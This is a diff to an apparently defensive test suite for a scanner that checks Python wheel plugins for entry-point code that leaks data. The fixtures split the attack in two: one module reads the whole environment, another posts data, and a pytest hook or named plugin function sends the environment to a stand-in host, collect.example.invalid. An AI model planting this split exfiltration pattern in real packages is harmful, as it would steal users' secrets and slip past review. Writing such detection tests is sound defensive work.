@@ -66,6 +66,16 @@ describe('what a tool calls of a plugin counts like what runs on import', () => 
     expect(findings.map(({ message }) => String(message))).toContain('requests.post sends the whole environment, when a tool loads it');
   });
 
+  test.each([
+    ['a hook of pytest', '[pytest11]\nplot = plot.plugin\n', 'pytest_configure'],
+    ['a function that is named', '[garden.plugins]\nplot = plot.plugin:bloom\n', 'bloom'],
+    ['a function that nobody looks for', '[garden.plugins]\nplot = plot.plugin:bloom\n', 'wilt'],
+  ])('%s, where one module gathers, another sends and the plugin brings them together', async (_, points, hook) => {
+    const halves = { 'plot/_soil.py': 'import os\n\n\ndef gather():\n    return dict(os.environ)\n', 'plot/_post.py': 'import requests\n\n\ndef deliver(address, data):\n    requests.post(address, json=data)\n' };
+    const plugin = `from plot._soil import gather\nfrom plot._post import deliver\n\n\ndef bloom():\n    return 1\n\n\ndef ${hook}(*given):\n    deliver("https://collect.example.invalid", gather())\n`;
+    expect(worst(await inWheel(points, { ...halves, 'plot/plugin.py': plugin }))).toBe(hook === 'wilt' ? undefined : 'critical');
+  });
+
   test('so does a function that the module has from another one, or calls there', async () => {
     const helper = { 'plot/_watch.py': sendsIn('report') };
     expect(worst(await inWheel('[garden.plugins]\nplot = plot:report\n', { ...helper, 'plot/__init__.py': 'from ._watch import report\n' }))).toBe('critical');
